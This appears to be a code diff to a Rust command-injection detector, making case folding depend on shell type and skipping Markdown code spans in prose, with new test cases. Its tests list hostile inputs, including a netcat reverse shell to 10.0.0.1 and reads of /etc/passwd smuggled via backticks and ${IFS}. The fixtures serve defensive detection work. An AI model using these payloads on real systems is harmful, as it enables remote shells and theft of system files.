@@ -134,8 +134,9 @@ fn ends_word(b: u8) -> bool {
 }
 
 /// Reads a program name at `i` (quotes and backslashes inside it are removed by the
-/// shell: `w'h'oami`, `c\at`). Returns (is a program, end).
-fn program_at(v: &[u8], mut i: usize) -> (bool, usize) {
+/// shell: `w'h'oami`, `c\at`). Returns (is a program, end). `fold_case`: Windows' `cmd`
+/// finds `WHOAMI` too; a POSIX shell runs `head`, never `HEAD` (git's, in prose).
+fn program_at(v: &[u8], mut i: usize, fold_case: bool) -> (bool, usize) {
     let mut name = [0u8; 24];
     let mut len = 0;
     let start = i;
@@ -148,7 +149,7 @@ fn program_at(v: &[u8], mut i: usize) -> (bool, usize) {
         if ends_word(b) {
             break;
         }
-        name[len] = b.to_ascii_lowercase();
+        name[len] = if fold_case { b.to_ascii_lowercase() } else { b };
         len += 1;
         i += 1;
     }
@@ -191,7 +192,7 @@ fn after_operators(v: &[u8]) -> bool {
         while j < v.len() && (is_blank(v[j]) || matches!(v[j], b'|' | b'&' | b'{' | b'(' | b'!')) {
             j += 1;
         }
-        let (program, end) = program_at(v, j);
+        let (program, end) = program_at(v, j, true);
         if program && looks_like_command_line(v, end) {
             return true;
         }
@@ -205,6 +206,11 @@ fn in_substitution(v: &[u8]) -> bool {
     let mut i = 0;
     while i < v.len() {
         let start = match v[i] {
+            b'`' if code_span_in_prose(v, i) => {
+                // Skip the whole span: its closing backtick opens nothing.
+                i = memchr::memchr(b'`', &v[i + 1..]).map_or(v.len(), |p| i + p + 2);
+                continue;
+            }
             b'`' => i + 1,
             b'$' if v.get(i + 1) == Some(&b'(') && v.get(i + 2) != Some(&b'(') => i + 2,
             _ => {
@@ -216,13 +222,38 @@ fn in_substitution(v: &[u8]) -> bool {
         while j < v.len() && is_blank(v[j]) {
             j += 1;
         }
-        let (program, end) = program_at(v, j);
+        // Substitutions are POSIX shell syntax: names are case-sensitive.
+        let (program, end) = program_at(v, j, false);
         if program && (matches!(v.get(end), Some(b'`' | b')')) || looks_like_command_line(v, end)) {
             return true;
         }
         i = start.max(j);
     }
     false
+}
+
+/// Is the backtick at `open` a Markdown code span inside a sentence (``like `cat`):``,
+/// ``Display help for `ls`.``)? Text both before and after it, the span set off by a
+/// space or an opening bracket, and the sentence going on after it. A payload
+/// is the substitution itself, glued to data or an operator (`` `id` ``, ``x`id` ``,
+/// ``; `whoami` ``).
+fn code_span_in_prose(v: &[u8], open: usize) -> bool {
+    let Some(len) = memchr::memchr(b'`', &v[open + 1..]) else {
+        return false;
+    };
+    let close = open + 1 + len;
+    let before = &v[..open];
+    let after = &v[close + 1..];
+    let set_off = before.last().is_some_and(|&b| matches!(b, b' ' | b'(' | b'"'));
+    let words_before = before.windows(2).any(|w| w[0].is_ascii_alphabetic() && w[1].is_ascii_alphabetic());
+    // Punctuation of a sentence or a parenthetical right after it, or more words.
+    let goes_on = match after.first() {
+        Some(b')' | b':' | b',' | b'.' | b'"') => true,
+        Some(b' ') => after.iter().any(u8::is_ascii_alphabetic),
+        _ => false,
+    };
+    let operator_before = before.iter().rev().find(|&&b| b != b' ').is_some_and(|&b| matches!(b, b';' | b'|' | b'&'));
+    set_off && words_before && goes_on && !operator_before
 }
 
 /// `cat${IFS}/etc/passwd`, `$IFS$9`.
@@ -252,6 +283,10 @@ mod tests {
             "; nc -e /bin/sh 10.0.0.1 4444",
             "cat${IFS}/etc/passwd",
             "& ping -n 10 127.0.0.1 &",
+            "name`id`",
+            "x `id`",
+            "; `whoami` now",
+            "`cat /etc/passwd` please",
         ] {
             assert!(find(v.as_bytes()).is_some(), "missed {v:?}");
         }
@@ -267,6 +302,11 @@ mod tests {
             "rock | roll",
             "R&D department",
             "$(5) off",
+            "Display a file's content from an archive to `stdout` (like `cat`):",
+            "Execute the `ls` program literally, even if an `ls` alias exists:",
+            "View logs and follow new output (like `tail --follow`):",
+            "Inspect colorized output from another command (e.g., `ls`), then quit",
+            "Reset a file to `HEAD`",
         ] {
             assert!(find(v.as_bytes()).is_none(), "flagged {v:?}");
         }
